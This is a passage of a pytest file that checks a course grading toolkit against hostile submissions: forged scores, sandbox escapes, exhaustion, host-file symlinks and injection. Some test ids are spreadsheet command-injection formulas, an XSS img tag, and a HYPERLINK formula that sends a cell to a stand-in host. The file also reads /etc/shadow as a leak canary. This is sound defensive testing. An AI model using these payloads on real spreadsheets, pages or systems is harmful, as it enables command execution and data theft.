"""Issue #16: submissions that have read our source, graded in batches beside correct students.

The hostile submissions are ``tests/hostile/{forge,escape,stop,exhaust,inject}_*.py`` (each file's
docstring says what it does and what its honest implementation earns), plus folders and names that
git cannot hold or that must point at this machine's paths, built here at test time (``_intake_class``,
``_main_class``). They are graded by ``toolkit grade`` in six batches, each with correct students:

- ``main``: forging scores, escaping into the feedback, exhausting the grader, injecting markup;
- ``components``: the same classes of attack on the other six components, and the attention again
  (``tests/hostile/components/``): the toolkit's own exceptions raised, stride-0 views that grow
  when copied, the global generator touched, control characters, objects where data is expected,
  unit checks told from the pipeline by their inputs or by how they call a module (``forge_context_*``,
  ``forge_dtype_attention``), a block's initial weights hidden from a function the child could replace
  (``forge_child_side_block``), merges fixed in advance to spell the public held-out text, a table of the
  public held-out pairs;
- ``stop``: stopping or hanging the batch (each one alone would end a grader that is not ready);
- ``similarity``: two near-identical 40,000-token hooks (quadratic similarity);
- ``intake``: symlinks, /proc/self/pagemap, a 1,200-deep folder, 2,000 files, 300 MB, an
  unparsable unused file: refused before any sandbox (``load_error``) or graded as usual;
- ``trust``: without ``--fast``, submissions that replace, in the child, the toolkit's and the
  graders' code that used to compute their figures there (the grader now trains every model itself),
  and a reward model that ranks the public held-out pairs from a table (the grader draws its own).

For every batch the tests assert: it completes (grades.csv, summary.html, a feedback page per
student), correct students get full marks, each hostile one gets the status the design decides and no
more than its honest implementation earns, no file from outside the output folder is read into it
(a canary planted next to the class, in another run's results.sqlite, in a solutions-like folder and
in the grader's environment appears nowhere under it, base64 data decoded), no student-controlled
markup is live on any page, CSV cells cannot start a formula, each student's folders stay under 20 MB
with no PNG from the child, the grader's resident memory stays bounded, no ``toolkit-grade-*`` box and
no process is left behind, and nothing the child sent ran code in the grader.

The grader runs with TMPDIR in the batch's folder (so its boxes can be counted) and, as a safety net
for this shared machine, with RLIMIT_AS = 5 GiB (a grader that mirrors a child's 2 GiB parameters or
reads /proc/self/pagemap fails there instead of taking the machine's memory). A batch still running
after its BATCH_TIMEOUT has hung: it is killed and its tests fail. The main batch grades 33
submissions, the others 2 to 17 each.
"""

from __future__ import annotations

import base64
import csv
import html
import json
import os
import re
import resource
import secrets
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ROOT / "tests" / "hostile"
PLUGINS = ROOT / "tests" / "plugins"
CORRECT = PLUGINS / "attn_einsum.py"
NO_MASK = PLUGINS / "attn_no_mask.py"  # earns 2: stable and written_out
FULL = 3 + 2 + 1 + 1 + 2  # attention: public unit checks + hidden random_shapes
LIMITS = ["--workers", "2", "--nproc", "64", "--memory-gb", "3"]
OPTIONS = ["--fast", "-c", "attention", "--timeout", "25", *LIMITS]
COMPONENTS_FULL = 11 + FULL + 10 + 11 + 5 + 5 + 14  # tokenizer, attention, block, optimizer, sft_mask, reward, sampler:
# unit checks, hidden ones included
COMPONENTS_OPTIONS = ["--fast", "-c", "tokenizer", "-c", "attention", "-c", "block", "-c", "optimizer",
                      "-c", "sft_mask", "-c", "reward", "-c", "sampler", "--timeout", "60", *LIMITS]  # 60 s: 7 components
TRUST_FULL = 14 + 14  # attention and reward, behavioural checks and hidden ones included
TRUST_OPTIONS = ["-c", "attention", "-c", "reward", "--timeout", "600", "--workers", "2", "--nproc", "64",
                 "--memory-gb", "3"]  # without --fast: the behavioural checks, where the grader trains the models
BATCH_TIMEOUT = {"main": 360, "stop": 240, "similarity": 150, "intake": 180, "components": 300,
                 "trust": 1500}  # seconds; then: hung
GRADER_ADDRESS_SPACE = 5 << 30  # the grader's RLIMIT_AS here: a safety net for the machine, not the limit under test
GRADER_RSS_MB = 1536  # the grader's resident memory may not pass this (a quiet batch: under 300 MB)
STUDENT_CAP = 20 << 20  # bytes in feedback/<student>/ (and gradescope/<student>/)
CANARY = f"HOSTILE-CANARY-{secrets.token_hex(8)}"
HIDDEN_LEAK = "HIDDEN" + "-LEAK"  # what escape_hidden_* put in front of the hidden inputs they leak
ORPHAN = "HOSTILE-" + "ORPHAN"  # in the command line of stop_orphan's daemon
REDUCE_MARKER = Path("/tmp/toolkit-hostile-pwned-by-reduce")  # created if forge_reduce's payload ever runs
CHILD_PNGS = {f"plot_{i:02d}.png" for i in range(25)} | {"canary.png", "shadow.png"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# -- what each student may get --------------------------------------------------------------------
# student -> (statuses the design allows, the most its honest implementation earns). Where the design
# decides the status it is the only one allowed; "graded" or "crashed" where a broken conversation may
# end either way (a frame that breaks the protocol ends it; a check may also just fail with a reason).
EITHER = {"graded", "crashed"}
HEAVY = EITHER | {"timeout"}  # a submission that moves hundreds of MB may also just run out of time on a busy machine
MAIN = {
    "forge_frame_walk": (EITHER, 2),
    "forge_gc_results": ({"graded"}, 2),
    "forge_method_replace": ({"graded"}, 2),
    "forge_code_swap": ({"graded"}, 2),
    "forge_clear_snapshot": ({"graded"}, 2),
    "forge_tensor_subclass": (EITHER, 2),
    "forge_torch_function_mode": ({"graded"}, 2),
    "forge_every_fd": (EITHER, 2),
    "forge_reduce": (EITHER, 2),
    "forge_snapshot_lookup": ({"graded"}, 2),
    "forge_child_side": ({"graded"}, FULL - 1),
    "forge_wrong_values": (EITHER, 2),
    "forge_deep_nested": (HEAVY, 1),  # a 3,000,000-int answer to refuse: may run out of time on a busy machine
    "escape_plot_paths": ({"graded"}, FULL),
    "escape_report_symlink": ({"graded"}, FULL),
    "escape_read_host": ({"graded"}, FULL),
    "escape_hidden_inputs": ({"graded"}, FULL - 2),
    "escape_hidden_stderr": (EITHER, FULL - 2),
    "exhaust_huge_params": (EITHER, 0),
    "exhaust_huge_tensor": (HEAVY, 0),
    "exhaust_huge_storage": (HEAVY, FULL),
    "exhaust_big_pngs": (HEAVY, FULL),
    "exhaust_scratch_2gib": (HEAVY, 0),
    "exhaust_long_reason": ({"graded", "crashed"}, 0),  # its 6 MB exception text: cut by the child, or refused
    "inject_markup": (EITHER, 0),
    "inject_exception_text": ({"graded"}, 0),
    # ids that are spreadsheet formulas or markup: empty folders (nothing to load)
    "@SUM(1+1)*cmd|' -C calc'!A0": ({"load_error"}, 0),
    "-2+3": ({"load_error"}, 0),
    "\t=1+1": ({"load_error"}, 0),
    '<img src=x onerror="alert(7)" class="hostile-xss">': ({"load_error"}, 0),
}
FORMULA_GOOD = '=HYPERLINK("hostile.invalid?"&A1,"grades")'  # a correct student with a formula for a name (no "/")
STOP = {
    "stop_nested_json": ({"crashed"}, 2),
    "stop_run_5": (EITHER, 2),
    "stop_bad_metrics": ({"graded"}, 2),
    "stop_scratch_deep": ({"graded"}, 2),
    "stop_pipe_block": ({"timeout"}, FULL),
    "stop_orphan": ({"graded"}, 2),
    "stop_deep_expression": ({"load_error"}, 0),
}
SIMILARITY = {"quadratic_a": ({"graded"}, FULL), "quadratic_b": ({"graded"}, FULL)}
INTAKE = {
    "symlink_top": ({"load_error"}, 0),  # the whole entry is a link to a solution: nothing of the student's
    "symlink_inside": ({"load_error"}, 2),
    "symlink_proc": ({"load_error"}, 2),
    "deep_submission": ({"load_error"}, 2),
    "many_files": ({"load_error"}, 2),
    "big_submission": ({"load_error"}, 2),
    "unused_expression": ({"graded"}, FULL),
}
COMPONENTS = {  # tests/hostile/components/
    "stop_out_of_time_sampler": ({"graded"}, 1),
    "stop_out_of_time_hidden_mask": ({"graded"}, 3),
    "exhaust_stride0_views": (EITHER, 0),
    "forge_global_rng_sampler": ({"graded"}, 12),
    "inject_control_characters": ({"graded"}, 0),
    "inject_objects_tokenizer": (EITHER, 2),
    "forge_public_heldout_tokenizer": ({"graded"}, 3),  # merges fixed to spell the public held-out text: speed 0
    "forge_public_pairs_reward": ({"graded"}, 3),  # a constant and a table; --fast: its behaviour is graded in trust
    "sequential_reward": ({"graded"}, 5),  # correct: tests/plugins/reward_sequential.py, the reward only
    "unicode_reward": ({"graded"}, 5),  # correct: tests/plugins/reward_unicode_names.py, the reward only
    # told the unit checks from the pipeline by their inputs (dtype, width, backbone, vocabulary): the checks
    # run their cases in the pipeline's contexts too (graders/contexts.py)
    "forge_context_attention": ({"graded"}, 4),
    "forge_dtype_attention": ({"graded"}, 4),
    "forge_context_reward": ({"graded"}, 3),
    "forge_context_sampler": ({"graded"}, 2),
    "forge_context_block": ({"graded"}, 5),  # post-norm only with gradients on, in float32 at width >= 64
    "forge_context_optimizer": ({"graded"}, 5),  # no bias correction given > 10 parameters or float32 ones
    "forge_child_side_block": ({"graded"}, 9),  # γ = 0 at init, hidden from graders.block.initial_norms in the child
    # spins in dozens of sessions, beside the next one; charged its CPU time, it may live on until torch
    # cannot start its threads (its spinners hold its process limit): crashed
    "exhaust_cpu_sessions": (HEAVY, 14),
    "exhaust_cpu_victim": ({"graded"}, COMPONENTS_FULL),  # correct (as good_folder): graded in full all the same
}
TRUST = {  # graded without --fast: what the child computes with the submission's code is never believed
    "forge_curve_in_child": ({"graded"}, 2),
    "forge_reward_stage": ({"graded"}, 4.67),  # issue 31: tests/plugins/reward_sign_flipped.py, honestly graded
    "forge_gradient_reward": ({"graded"}, 4.67),  # the right loss's gradients behind the flipped loss: audited
    # right where the pipeline trains (float32 at width 128), wrong where the checks also look (float64): its
    # behavioural checks stand on a unit check that found it right and wrong (graders.contexts.same_everywhere)
    "forge_dtype_attention": ({"graded"}, 4),
    "forge_public_pairs_reward": ({"graded"}, 5.67),  # tests/plugins/reward_constant.py, honestly graded
}
GOOD = {"main": ["good_file", "good_folder", FORMULA_GOOD], "stop": ["good_file"], "similarity": ["good_file"],
        "intake": ["good_file"], "components": ["good_folder"], "trust": ["good_folder"]}
EXPECTED = {"main": MAIN, "stop": STOP, "similarity": SIMILARITY, "intake": INTAKE, "components": COMPONENTS,
            "trust": TRUST}
GOOD_COMPONENTS = ["tok_incremental.py", "attn_einsum.py", "block_handwritten.py", "opt_foreach.py",
                   "sft_vectorised.py", "reward_gather.py", "samp_gumbel.py"]  # in tests/plugins
# attacks the design does not stop (see each file's docstring): their totals may pass the honest one (xfail)
DESIGN_GAPS = {"forge_snapshot_lookup": "public inputs are predictable: the shipped snapshot is a lookup table"}


def test_at_least_20_new_hostile_submissions_each_with_its_honest_score():
    files = [f for f in HOSTILE.glob("*.py") if f.stem.startswith(("forge_", "escape_", "stop_", "exhaust_", "inject_"))]
    assert len(files) >= 20
    for f in files:
        doc = " ".join(f.read_text().split('"""')[1].split())
        assert doc.startswith("Hostile: ") and "honest score: " in doc, f.name
    graded_here = {s for table in EXPECTED.values() for s in table} | {"quadratic_a"}
    assert {f.stem for f in files} - {"stop_similarity_quadratic"} <= graded_here


# -- the batches ---------------------------------------------------------------------------------
@dataclass
class Batch:
    name: str
    base: Path
    klass: Path
    out: Path
    students: list[str]
    returncode: int | None = None
    hung: bool = False
    seconds: float = 0.0
    peak_rss_mb: int = 0
    stderr: str = ""
    rows: dict[str, dict] = field(default_factory=dict)

    def why(self) -> str:
        state = "hung (killed)" if self.hung else f"exit code {self.returncode}"
        return f"batch {self.name}: {state} after {self.seconds:.0f} s; stderr: ...{self.stderr[-2500:]}"


def _plant_canaries(base: Path) -> None:
    """Files outside the output folder that nothing may read into it."""
    (base / "canary.txt").write_text(f"{CANARY}\n")
    (base / "plots").mkdir()
    (base / "plots" / "canary.png").write_bytes(b"\x89PNG\r\n\x1a\n" + CANARY.encode() * 64)
    (base / "other-run").mkdir()
    with sqlite3.connect(base / "other-run" / "results.sqlite") as db:
        db.execute("CREATE TABLE results (student TEXT, record TEXT)")
        db.execute("INSERT INTO results VALUES (?, ?)", ("someone", json.dumps({"secret": CANARY})))
    (base / "solutions").mkdir()
    (base / "solutions" / "attention.py").write_text(f"# {CANARY}\n" + CORRECT.read_text())


def _copy_hostile(klass: Path, prefix: tuple[str, ...], base: Path) -> None:
    for f in sorted(HOSTILE.glob("*.py")):
        if f.stem.startswith(prefix) and f.stem != "stop_similarity_quadratic":
            text = f.read_text()
            if f.stem == "escape_read_host":  # guesses of this machine's layout, as a student who read it might make
                guesses = [base / "canary.txt", base / "other-run" / "results.sqlite", base / "solutions" / "attention.py",
                           ROOT / "solutions" / "attention.py", base / "class" / "good_file.py"]
                text = text.replace("GUESSES: list[str] = []", f"GUESSES: list[str] = {[str(g) for g in guesses]!r}")
            (klass / f.name).write_text(text)


def _main_class(base: Path, klass: Path) -> None:
    _copy_hostile(klass, ("forge_", "escape_", "exhaust_", "inject_"), base)
    shutil.copy(CORRECT, klass / "good_file.py")
    (klass / "good_folder").mkdir()
    shutil.copy(CORRECT, klass / "good_folder" / "attention.py")
    shutil.copy(CORRECT, klass / f"{FORMULA_GOOD}.py")
    for student in MAIN:
        if not (klass / f"{student}.py").exists():
            (klass / student).mkdir()


def _stop_class(base: Path, klass: Path) -> None:
    _copy_hostile(klass, ("stop_",), base)
    shutil.copy(CORRECT, klass / "good_file.py")


def _similarity_class(base: Path, klass: Path) -> None:
    for student in SIMILARITY:
        shutil.copy(HOSTILE / "stop_similarity_quadratic.py", klass / f"{student}.py")
    shutil.copy(CORRECT, klass / "good_file.py")


def _dig(folder: Path, depth: int, name: str = "d") -> None:
    """``depth`` nested folders under ``folder``, a file at the bottom (by file descriptor: no path is ever that long)."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir(name, dir_fd=fd)
            fd, old = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd), fd
            os.close(old)
        os.close(os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)


def _intake_class(base: Path, klass: Path) -> None:
    """Folders git cannot hold: symlinks to this machine's files, deep trees, many files, a big one."""
    (klass / "symlink_top.py").symlink_to(base / "solutions" / "attention.py")
    for student in ("symlink_inside", "symlink_proc", "deep_submission", "many_files", "big_submission"):
        (klass / student).mkdir()
        shutil.copy(NO_MASK, klass / student / "attention.py")
    (klass / "symlink_inside" / "notes.txt").symlink_to("../../canary.txt")  # relative, to the class's neighbour
    (klass / "symlink_inside" / "secret.py").symlink_to(base / "solutions" / "attention.py")
    (klass / "symlink_inside" / "root").symlink_to("/", target_is_directory=True)
    (klass / "symlink_proc" / "pagemap.py").symlink_to("/proc/self/pagemap")
    _dig(klass / "deep_submission", 1200)
    (klass / "many_files" / "data").mkdir()
    for i in range(2_000):
        (klass / "many_files" / "data" / f"{i:05d}.txt").write_bytes(b"x")
    with (klass / "big_submission" / "weights.bin").open("wb") as f:
        f.truncate(300 << 20)  # sparse: 300 MB to whoever reads it, nothing on this disk
    (klass / "unused_expression").mkdir()
    shutil.copy(CORRECT, klass / "unused_expression" / "attention.py")
    (klass / "unused_expression" / "_scratch.py").write_text("x = " + " + ".join(["1"] * 20_000) + "\n")
    shutil.copy(CORRECT, klass / "good_file.py")


def _components_class(base: Path, klass: Path) -> None:
    for f in sorted((HOSTILE / "components").glob("*.py")):
        shutil.copy(f, klass / f.name)
    shutil.copy(PLUGINS / "reward_sequential.py", klass / "sequential_reward.py")
    shutil.copy(PLUGINS / "reward_unicode_names.py", klass / "unicode_reward.py")
    for folder in ("good_folder", "exhaust_cpu_victim"):  # the victim is graded beside exhaust_cpu_sessions
        (klass / folder).mkdir()
        for name in GOOD_COMPONENTS:
            shutil.copy(PLUGINS / name, klass / folder / name)


def _trust_class(base: Path, klass: Path) -> None:
    for name in TRUST:
        shutil.copy(next(HOSTILE.glob(f"**/{name}.py")), klass / f"{name}.py")
    (klass / "good_folder").mkdir()
    for name in ("attn_einsum.py", "reward_gather.py"):
        shutil.copy(PLUGINS / name, klass / "good_folder" / name)


BUILDERS = {"main": _main_class, "stop": _stop_class, "similarity": _similarity_class, "intake": _intake_class,
            "components": _components_class, "trust": _trust_class}
FULL_OF = {"components": COMPONENTS_FULL, "trust": TRUST_FULL}  # the others grade the attention: FULL
OPTIONS_OF = {"components": COMPONENTS_OPTIONS, "trust": TRUST_OPTIONS}  # the others: OPTIONS


def _cap_grader_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (GRADER_ADDRESS_SPACE, GRADER_ADDRESS_SPACE))


def _vm_hwm_mb(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) // 1024
    except (OSError, ValueError):
        pass
    return 0


def _raw_id(cell: str) -> str:
    """The student id a grades.csv cell names, with a formula neutraliser (a leading ') taken off."""
    return cell[1:] if cell.startswith("'") and cell[1:2] and cell[1:2] in "=+-@\t\r" else cell


def grade(base: Path, klass: Path, out: Path, name: str, timeout: float) -> Batch:
    """``toolkit grade klass --out out`` with this module's options; killed (and marked hung) after ``timeout``."""
    (base / "tmp").mkdir(exist_ok=True)
    env = {**os.environ, "TMPDIR": str(base / "tmp"), "HOSTILE_CANARY_ENV": CANARY, "PYTHONPATH": str(ROOT)}
    options = OPTIONS_OF.get(name, OPTIONS)
    cmd = [sys.executable, "-m", "toolkit.cli", "grade", str(klass), "--out", str(out), *options]
    batch = Batch(name, base, klass, out, sorted(p.name.removesuffix(".py") for p in klass.iterdir()))
    t0 = time.monotonic()
    with (base / f"{out.name}.stderr").open("wb") as err:
        proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=err,
                                start_new_session=True, preexec_fn=_cap_grader_memory)
        while proc.poll() is None and time.monotonic() - t0 < timeout:
            batch.peak_rss_mb = max(batch.peak_rss_mb, _vm_hwm_mb(proc.pid))
            time.sleep(0.25)
        if proc.poll() is None:
            batch.hung = True
            os.killpg(proc.pid, signal.SIGKILL)  # the grader we started, and what it started in its session
        batch.returncode = proc.wait()
    batch.seconds = time.monotonic() - t0
    batch.stderr = (base / f"{out.name}.stderr").read_text(errors="replace")
    if (out / "grades.csv").exists():
        with (out / "grades.csv").open(newline="", encoding="utf-8") as f:
            batch.rows = {_raw_id(r["student"]): r for r in csv.DictReader(f)}
    return batch


def _remove(path: Path) -> None:
    """rm -rf: it removes trees deeper than Python's recursion limit and folders without permissions."""
    subprocess.run(["rm", "-rf", "--one-file-system", str(path)], check=False)


@pytest.fixture(scope="module")
def batches(tmp_path_factory):
    """The four batches, each graded once when a test first asks for it: name -> Batch."""
    REDUCE_MARKER.unlink(missing_ok=True)
    made: dict[str, Batch | OSError] = {}
    bases = []

    def get(name: str) -> Batch:
        if name not in made:
            base = tmp_path_factory.mktemp(f"hostile-{name}")
            bases.append(base)
            _plant_canaries(base)
            klass = base / "class"
            klass.mkdir()
            try:
                BUILDERS[name](base, klass)
            except OSError as e:  # this file system cannot hold the class: every test of the batch says so
                made[name] = e
            else:
                made[name] = grade(base, klass, base / "out", name, BATCH_TIMEOUT[name])
        if isinstance(made[name], OSError):
            raise made[name]
        return made[name]

    yield get
    for base in bases:
        _remove(base)


BATCHES = list(BUILDERS)
ALL_STUDENTS = [(b, s) for b in BATCHES for s in EXPECTED[b]]


def _page(batch: Batch, student: str) -> str:
    path = batch.out / "feedback" / student / "index.html"
    return html.unescape(path.read_text(errors="replace")) if path.exists() else ""


# -- the batch completes, with every row -------------------------------------------------------------
@pytest.mark.parametrize("name", BATCHES)
def test_the_batch_completes_with_every_row_and_page(batches, name):
    batch = batches(name)
    assert not batch.hung and batch.returncode == 0, batch.why()
    assert (batch.out / "summary.html").exists() and (batch.out / "grades.csv").exists(), batch.why()
    assert sorted(batch.rows) == batch.students, batch.why()
    missing = [s for s in batch.students if not (batch.out / "feedback" / s / "index.html").exists()]
    assert not missing, f"no feedback page for {missing}"
    summary = html.unescape((batch.out / "summary.html").read_text(errors="replace"))
    assert all(s in summary for s in batch.students), "a student is missing from summary.html"


@pytest.mark.parametrize("name", BATCHES)
def test_correct_students_get_full_marks(batches, name):
    batch = batches(name)
    for student in GOOD[name]:
        row = batch.rows.get(student)
        assert row and row["status"] == "graded" and float(row["total"]) == FULL_OF.get(name, FULL), \
            (student, row, batch.why())


@pytest.mark.parametrize("name,student", ALL_STUDENTS, ids=[f"{b}-{s.encode('unicode_escape').decode()}"
                                                           for b, s in ALL_STUDENTS])
def test_each_hostile_gets_its_status_and_no_more_than_its_honest_score(batches, name, student):
    batch = batches(name)
    statuses, honest = EXPECTED[name][student]
    row = batch.rows.get(student)
    assert row is not None, f"no row for {student!r}: " + batch.why()
    assert row["status"] in statuses, (student, row["status"], _page(batch, student)[-1500:])
    assert 0 <= float(row["total"]) <= float(row["max_total"]) == FULL_OF.get(name, FULL), row
    if student in DESIGN_GAPS and float(row["total"]) > honest:
        pytest.xfail(f"design gap: {DESIGN_GAPS[student]} ({row['total']} > {honest})")
    assert float(row["total"]) <= honest, (student, {k: v for k, v in row.items() if v})


def test_a_child_that_replaces_the_toolkits_training_in_itself_gains_nothing(batches):
    """Issue 31's examples 1 and 2, without --fast: the grader trains the attention's 60-step GPT and the
    reward model itself, so an attention without the mask whose child returns the reference curve
    earns no ``trains_like_reference``, and a flipped loss whose child trains with the right one fails
    the accuracy and RLHF as the flipped loss does honestly (the grader computes exactly what
    ``toolkit run`` computes for it: the child's copy of ``toolkit.rlhf`` plays no part). A flipped loss
    whose child answers its backward with the right loss's gradients fails the gradients' audit: its
    feedback says they "are not those of its outputs"."""
    batch = batches("trust")
    curve, forged = (batch.rows.get(s) or {} for s in ("forge_curve_in_child", "forge_reward_stage"))
    assert float(curve.get("attention.trains_like_reference", -1)) == 0, (curve, batch.why())
    assert float(forged.get("reward.accuracy", -1)) == 0 and float(forged.get("reward.loss_sanity", -1)) == 0, forged
    assert float(forged.get("reward.rlhf_improves", 4)) < 4, forged
    gradients = batch.rows.get("forge_gradient_reward") or {}
    assert float(gradients.get("reward.accuracy", -1)) == 0, (gradients, batch.why())
    assert "are not those of its outputs" in _page(batch, "forge_gradient_reward"), _page(batch, "forge_gradient_reward")[-1500:]


def test_code_right_only_in_the_pipelines_contexts_earns_no_behavioural_point(batches):
    """Issue 31's example 3 without --fast: an attention right in float32 at width 128 (where the pipeline
    trains) and wrong in float64 (where the checks also look) used to earn both behavioural checks (9/14,
    honest 4). Its matches_reference found it right in some contexts and wrong in others, so the behavioural
    checks standing on it fail, saying so, before any model is trained for it."""
    batch = batches("trust")
    row = batch.rows.get("forge_dtype_attention") or {}
    assert [row.get(f"attention.{c}") for c in ("reference_weights", "trains_like_reference")] == ["0", "0"], row
    assert "computes the same in every context" in _page(batch, "forge_dtype_attention"), batch.why()


def test_a_table_of_the_public_held_out_pairs_earns_no_accuracy(batches):
    """A constant reward, and the public held-out pairs' rejected rows ranked below it (all of the public
    pairs right, tests/test_checks.py): the grader ranks pairs drawn from its own seed, and the table
    earns no more accuracy than the constant it is (ties count as wrong)."""
    batch = batches("trust")
    forged = batch.rows.get("forge_public_pairs_reward") or {}
    assert float(forged.get("reward.accuracy", -1)) == 0, (forged, batch.why())
    results = json.loads((batch.out / "gradescope" / "forge_public_pairs_reward" / "results.json").read_text())
    reason = next(t["output"] for t in results["tests"] if t["name"] == "reward.accuracy")
    assert "held-out pairwise accuracy 0.44 " in reason, reason  # the pairs whose rejected row it tabled


def test_a_correct_student_graded_in_full_earns_the_behavioural_and_hidden_points(batches):
    """The trust batch's correct student (tests/plugins/attn_einsum.py and reward_gather.py, both written
    differently from the solutions) without --fast: the grader loads the chat model the reward checks
    start from (shipped with the toolkit, once for the class), trains the attention's GPT and the reward
    model and runs RLHF itself; every behavioural check passes (the wrong plugins fail them in
    tests/test_checks.py), the hidden judge's result is published after the deadline, and the
    student's feedback holds the plots of the behavioural checks."""
    batch = batches("trust")
    assert "grader: sft: loaded shipped with the toolkit" in batch.stderr, batch.why()
    results = json.loads((batch.out / "gradescope" / "good_folder" / "results.json").read_text())
    status = {t["name"]: t["status"] for t in results["tests"]}
    assert all(status[name] == "passed" for name in ("attention.trains_like_reference", "reward.accuracy",
                                                      "reward.rlhf_improves", "reward.rlhf_judged_by_solution")), status
    judged = next(t for t in results["tests"] if t["name"] == "reward.rlhf_judged_by_solution")
    assert judged["visibility"] == "after_published"
    feedback = {p.name for p in (batch.out / "feedback" / "good_folder").iterdir()}
    assert {"attention_curve.png", "reward_histogram.png", "rlhf_curves.png", "rlhf_headline.png"} <= feedback, feedback


INTAKE_WORDS = {"symlink_top": "link", "symlink_inside": "link", "symlink_proc": "link", "deep_submission": "deep",
                "many_files": "files", "big_submission": "MB"}


def test_a_submission_refused_at_intake_says_why(batches):
    batch = batches("intake")
    for student, word in INTAKE_WORDS.items():
        page = _page(batch, student)
        assert word.lower() in page.lower(), (student, page[-800:])


# -- nothing from outside the output folder ------------------------------------------------------------
def _secrets() -> dict[str, tuple[bytes, bool]]:
    """What may not appear under the output folder: name -> (bytes, only in what students see)."""
    found = {"the canary": (CANARY.encode(), False), "hidden inputs": (HIDDEN_LEAK.encode(), True),
             "an SQLite file": (b"SQLite format 3\0", True)}
    try:
        root = next(ln for ln in Path("/etc/shadow").read_text().splitlines() if ln.startswith("root:"))
        if len(root) > 12:
            found["/etc/shadow"] = (root.encode(), False)
    except (OSError, StopIteration):
        pass
    return found


DATA_URI = re.compile(rb"data:[\w/+.-]*;base64,([A-Za-z0-9+/=\s]+)")


def _decoded(data: bytes) -> list[bytes]:
    """The payloads of the base64 data: URIs in a page."""
    out = []
    for m in DATA_URI.finditer(data):
        try:
            out.append(base64.b64decode(re.sub(rb"\s", b"", m.group(1)) + b"==", validate=False))
        except ValueError:
            continue
    return out


@pytest.mark.parametrize("name", BATCHES)
def test_no_file_from_outside_the_output_folder_is_read_into_it(batches, name):
    batch = batches(name)
    assert batch.out.exists(), batch.why()
    leaks = []
    for path in batch.out.rglob("*"):
        if not path.is_file() or path.is_symlink():
            if path.is_symlink():
                leaks.append(f"{path.relative_to(batch.out)} is a symlink")
            continue
        data = path.read_bytes()
        blobs = [data] + (_decoded(data) if path.suffix in (".html", ".json", ".htm") else [])
        seen_by_students = path.relative_to(batch.out).parts[0] in ("feedback", "gradescope")
        for what, (secret, students_only) in _secrets().items():
            if (seen_by_students or not students_only) and any(secret in blob for blob in blobs):
                leaks.append(f"{what} in {path.relative_to(batch.out)}")
    assert not leaks, leaks[:20]


# -- no live markup, no formulas -----------------------------------------------------------------
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "textarea",
                  "base", "link", "frame", "frameset", "applet", "template", "audio", "video", "source", "xmp",
                  "plaintext", "noscript", "marquee"}


class _Markup(HTMLParser):
    """Collects what would run or load in a browser, and any tag student text managed to open."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = [(n or "", v or "") for n, v in attrs]
        if tag in DANGEROUS_TAGS:
            self.bad.append(f"<{tag}>")
        if tag == "meta" and any(n == "http-equiv" for n, _ in attrs):
            self.bad.append("<meta http-equiv>")
        for n, v in attrs:
            low = re.sub(r"\s", "", v).lower()
            if n.startswith("on"):
                self.bad.append(f"<{tag} {n}=>")
            if low.startswith(("javascript:", "vbscript:", "data:text")):
                self.bad.append(f"<{tag} {n}={v[:30]}>")
            if "hostile" in n or (n == "class" and "hostile" in v):  # every injected tag says class="hostile-xss"
                self.bad.append(f"<{tag}> opened by student text ({n}={v[:30]})")
            if tag == "img" and n == "src" and not v.startswith("data:image/png;base64,"):
                self.bad.append(f"<img src={v[:30]}>")
            if tag == "a" and n == "href" and not (v.startswith(("feedback/", "#", "https://", "index.html"))):
                self.bad.append(f"<a href={v[:40]}>")


@pytest.mark.parametrize("name", BATCHES)
def test_no_student_markup_is_live_on_any_page(batches, name):
    batch = batches(name)
    pages = list(batch.out.rglob("*.html"))
    assert pages, batch.why()
    bad = []
    for page in pages:
        if page.stat().st_size > 50 << 20:
            bad.append(f"{page.relative_to(batch.out)}: {page.stat().st_size >> 20} MB, too big to be a page")
            continue
        parser = _Markup()
        parser.feed(page.read_text(errors="replace"))
        bad += [f"{page.relative_to(batch.out)}: {b}" for b in dict.fromkeys(parser.bad)]
    assert not bad, bad[:20]


def test_no_csv_cell_can_start_a_formula(batches):
    batch = batches("main")
    assert (batch.out / "grades.csv").exists(), batch.why()
    with (batch.out / "grades.csv").open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert any(c == "'" + FORMULA_GOOD for c in cells)


# terminal and layout controls: C0 but tab and newlines, DEL, C1, bidirectional overrides and isolates, zero-width
INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
GRADER_INTERNALS = ("RemoteObject", "RemoteModule", "toolkit.grading", " object at 0x")


@pytest.mark.parametrize("name", BATCHES)
def test_pages_show_what_they_say_and_nothing_of_the_graders_own_objects(batches, name):
    """No character that moves a terminal's cursor or reverses a line's direction reaches a page or
    the CSV; a sentence names what the submission returned, not the grader's proxy for it."""
    batch = batches(name)
    bad = []
    for path in [*batch.out.rglob("*.html"), *batch.out.rglob("*.json"), batch.out / "grades.csv"]:
        if not path.is_file() or path.stat().st_size > 50 << 20:
            continue
        text = html.unescape(path.read_text(errors="replace"))
        bad += [f"{path.relative_to(batch.out)}: {m.group()!r}" for m in INVISIBLE.finditer(text)][:3]
        if path.parts[-3:-2] == ("feedback",) or path.suffix == ".csv":
            bad += [f"{path.relative_to(batch.out)}: {w}" for w in GRADER_INTERNALS if w in text]
    assert not bad, bad[:20]


@pytest.mark.parametrize("student", ["sequential_reward", "unicode_reward"])
